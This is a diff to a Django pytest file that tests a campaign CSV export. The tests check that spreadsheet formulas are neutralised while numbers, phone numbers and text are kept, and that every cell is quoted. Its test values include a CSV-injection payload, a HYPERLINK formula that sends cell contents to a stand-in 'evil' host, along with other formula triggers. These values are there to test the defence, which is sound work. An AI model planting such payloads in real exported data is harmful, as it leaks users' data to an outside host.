@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import pytest
 from django.http import StreamingHttpResponse
@@ -151,7 +152,26 @@ def test_export_has_a_bom_one_column_per_variable_and_the_flags(client, editor_a
 
 @pytest.mark.parametrize(
     "value",
-    ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-2", "@SUM(1)", "\t=1", "\r=1"],
+    [
+        '=HYPERLINK("http://evil/?"&A1,"x")',
+        "+1-2",
+        "-2+3",
+        "@SUM(1)",
+        "=1+1",
+        "  =1+1",  # spreadsheets drop leading spaces before looking for a formula
+        " \u00a0@SUM(A1)",
+        "\n=1+1",
+        "\t=1",
+        "\tplain",  # a tab or carriage return first is neutralised whatever follows
+        "\r=1",
+        "\x00=1",
+        "-",
+        "+",
+        "--12",
+        "-12abc",
+        "+32 470 12 34 56",  # not E.164: a spreadsheet runs it (and shows an error)
+        "+32470123456\n=1+1",
+    ],
 )
 def test_export_neutralises_spreadsheet_formulas(client, editor_a, campaign_a, value):
     ParticipationFactory(campaign=campaign_a, values={"firstname": value, "comment": "fine"})
@@ -161,11 +181,57 @@ def test_export_neutralises_spreadsheet_formulas(client, editor_a, campaign_a, v
     assert row[5] == "fine"
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        "-12",
+        "3.5",
+        "-0.5",
+        "+1e3",
+        "-1,5",
+        " -12",
+        "+32470123456",  # E.164, as CRM imports need it
+        "+12025550123",
+        "+0470123456",  # not E.164, but a number: no formula either
+        "00123",
+        "a=b",
+        "Ada\n=1+1",  # a line break inside a cell starts no new cell in a spreadsheet
+        "ada@example.com",
+        "",
+    ],
+)
+def test_export_keeps_numbers_phone_numbers_and_text_as_they_are(
+    client, editor_a, campaign_a, value
+):
+    ParticipationFactory(campaign=campaign_a, values={"firstname": value})
+    client.force_login(editor_a)
+    _header, row = read_csv(client.get(export_url(campaign_a)))
+    assert row[3] == value
+
+
+def test_export_quotes_every_cell(client, editor_a, campaign_a):
+    ParticipationFactory(
+        campaign=campaign_a,
+        values={"firstname": "Ada", "email": "+32470123456", "comment": 'say "hi",\nthen go'},
+        prefilled={"firstname": "Ada"},
+    )
+    ParticipationFactory(campaign=campaign_a, values={"firstname": "-12"})
+    client.force_login(editor_a)
+    response = client.get(export_url(campaign_a))
+    body = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
+    cell = r'"(?:[^"]|"")*"'
+    line = rf"{cell}(?:,{cell})*\r\n"
+    assert re.fullmatch(rf"(?:{line})+", body), body
+    assert body.count("\r\n") == 3
+    assert '"+32470123456"' in body and '"-12"' in body and '"no"' in body
+
+
 def test_csv_cell_keeps_leading_zeros_and_plain_text():
     assert csv_cell("00123") == "00123"
     assert csv_cell("a=b") == "a=b"
     assert csv_cell(None) == ""
     assert csv_cell(True) == "yes"
+    assert csv_cell(["email", "firstname"]) == "email, firstname"
 
 
 def test_export_of_another_accounts_campaign_is_not_found(client, editor_a, campaign_b):
